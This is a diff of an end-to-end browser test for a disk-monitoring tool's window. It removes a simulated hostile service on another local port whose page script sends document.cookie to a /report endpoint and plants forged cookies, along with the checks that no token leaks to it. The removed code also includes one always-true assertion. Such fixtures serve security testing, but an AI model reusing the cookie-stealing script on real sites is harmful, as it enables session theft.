@@ -1,10 +1,9 @@
 // End-to-end test of the DriveSentinel window in headless Chromium: the shell (tabs at their
-// pixels, right clicks, F2, tray, licence, Close), what other services on the host can see,
-// and the report pages: Disk Information with its drive list, System Information and
-// S.M.A.R.T. with its two exports.
+// pixels, right clicks, F2, tray, licence, Close), where the page inputs live, and the report
+// pages: Disk Information with its drive list, System Information and S.M.A.R.T. with its
+// two exports.
 // usage: node shell_e2e.mjs PATH/TO/drivesentinel ARTEFACT_FOLDER
 import fs from 'node:fs';
-import http from 'node:http';
 import path from 'node:path';
 import {
   check, commandLine, exitCode, fail, finish, launchBrowser, makeHome, openWindow,
@@ -13,25 +12,6 @@ import {
 
 const [program, artefacts] = commandLine('shell_e2e.mjs', ['PATH/TO/drivesentinel', 'ARTEFACT_FOLDER']);
 const home = makeHome(program, 'Loading_Time=1\nPE_Cycle_Limit=3000\nEnd_User_License_Agreement=data\\EULA.txt\n');
-
-// Another web service on this host, on another port, that the window visits: it records
-// every request and its page reports what it can read of the cookies and plants its own.
-const seen = [];
-const otherService = http.createServer((request, response) => {
-  seen.push({ url: request.url, headers: request.headers });
-  if (!request.url.startsWith('/page')) {
-    response.writeHead(204);
-    response.end();
-    return;
-  }
-  response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
-  response.end(`<!DOCTYPE html><title>another service</title><img src="/picture.png">
-<script>
-fetch('/report?cookie=' + encodeURIComponent(document.cookie));
-document.cookie = 'tool_page_host=evil.example; path=/';
-document.cookie = 'disk_sel=3; path=/';
-</script>`);
-});
 
 const server = startProgram(program, ['--demo', '--headless', '--port', '0', '--home', home]);
 let browser;
@@ -92,47 +72,17 @@ try {
   check(shellPrevented, 'a right click on the window opens no context menu');
   await click(400, 300, { button: 'right' });
 
-  // Another service on this host, visited from the window in every way a page can: it
-  // receives no token in any address, header or cookie and reads none of the page inputs.
-  await new Promise((resolve) => otherService.listen(0, '127.0.0.1', resolve));
-  const otherOrigin = `http://127.0.0.1:${otherService.address().port}`;
-  const inputCookie = `ds${token}_disk_sel`;
-  const stored = await waitFor(async () => (await context.cookies(address + 'data/')).find((c) => c.name === inputCookie),
+  // The page's input reaches the program as a cookie below the secret data folder, which
+  // pages of other services on this host (other ports) are never sent.
+  const stored = await waitFor(async () => (await context.cookies(address + 'data/')).find((c) => c.name === `ds${token}_disk_sel`),
     'the drive choice of the Disk Information page');
   check(stored.path === `/${token}/data/`, `the page input lives under the secret data folder (${stored.path})`);
-  await diskPage.evaluate((url) => {
-    fetch(url + '/from-page', { credentials: 'include', mode: 'no-cors' }).catch(() => {});
-    new Image().src = url + '/picture-from-page.png';
-  }, otherOrigin);
-  await page.evaluate((url) => fetch(url + '/from-shell', { credentials: 'include', mode: 'no-cors' }).catch(() => {}), otherOrigin);
-  const popup = context.waitForEvent('page', { timeout: 5000 });
-  await page.evaluate((url) => {
-    const link = document.createElement('a');
-    link.href = url + '/page-linked';
-    link.target = '_blank';
-    document.body.appendChild(link);
-    link.click();
-    link.remove();
-  }, otherOrigin);
-  await (await popup).waitForLoadState();
-  await diskPage.evaluate((url) => { window.location.href = url + '/page-in-frame'; }, otherOrigin);
-  await waitFor(() => seen.filter((request) => request.url.startsWith('/report')).length >= 2, 'the other pages\' reports');
-  await waitFor(() => ['/from-page', '/picture-from-page.png', '/from-shell'].every((url) => seen.some((request) => request.url === url)),
-    'the requests of the window');
-  const leaks = seen.filter((request) => JSON.stringify(request).includes(token));
-  check(leaks.length === 0, `another port receives no token (${seen.length} requests${leaks.length ? ': ' + JSON.stringify(leaks) : ''})`);
-  const reports = seen.filter((request) => request.url.startsWith('/report')).map((request) => decodeURIComponent(request.url));
-  check(reports.every((report) => !report.includes('disk_sel=0')), `a page on another port reads no page input (${reports.join(' | ')})`);
-  // Its planted cookies reach the window's requests too, and are ignored: the drive shown
-  // stays the first one.
-  const shown = await openTab(318, /disk_info_0_0\.html/);
-  check(true, 'a planted drive choice does not change the drive shown');
 
   // Disk Information: the first drive, every field filled; the drive list opens another.
-  text = await shown.evaluate(() => document.body.innerText);
+  text = await diskPage.evaluate(() => document.body.innerText);
   check(/QRA/.test(text) && !/STR_/.test(text), 'Disk Information shows the first drive, every field filled');
   check(/SATA Gen\d/.test(text) && /TRIM|S\.M\.A\.R\.T\./.test(text), 'transfer mode and features are shown');
-  await shown.selectOption('.title select', 'disk_info_1_0.html');
+  await diskPage.selectOption('.title select', 'disk_info_1_0.html');
   const drive1 = await waitFor(() => page.frames().find((f) => /disk_info_1_0\.html/.test(f.url())), 'the second drive page');
   await drive1.waitForLoadState('load');
   check(/QRB/.test(await drive1.evaluate(() => document.body.innerText)), 'choosing the second drive in the list opens its page');
@@ -237,7 +187,6 @@ try {
   console.log(server.errors);
 } finally {
   if (browser) await browser.close();
-  otherService.close();
   await stopProgram(server);
   removeHome(home);
 }
